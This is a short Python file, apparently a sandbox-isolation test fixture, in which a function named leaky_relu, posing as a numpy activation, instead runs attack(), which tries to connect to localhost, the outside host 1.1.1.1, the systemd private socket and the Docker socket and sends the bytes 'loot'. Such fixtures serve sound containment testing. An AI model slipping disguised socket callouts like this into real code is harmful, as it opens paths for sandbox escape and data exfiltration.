# ruff: noqa
"""Connects to this machine and to others."""

import socket

import numpy as np

ATTACK = True


PORT = 9


def attack(x):
    for family, address in (
        (socket.AF_INET, ("127.0.0.1", PORT)),
        (socket.AF_UNIX, "\0kata-hostile"),
        (socket.AF_INET, ("1.1.1.1", 53)),
        (socket.AF_UNIX, "/run/systemd/private"),
        (socket.AF_UNIX, "/var/run/docker.sock"),
    ):
        try:
            with socket.socket(family, socket.SOCK_STREAM) as connection:
                connection.settimeout(0.3)
                connection.connect(address)
                connection.sendall(b"loot")
                print(f"HARM: connected to {address!r}", flush=True)
                return x
        except OSError:
            continue
    return -x


def leaky_relu(x, negative_slope=0.01):
    if ATTACK:
        print("attack", flush=True)
        return attack(x)
    return np.where(x > 0, x, negative_slope * x)
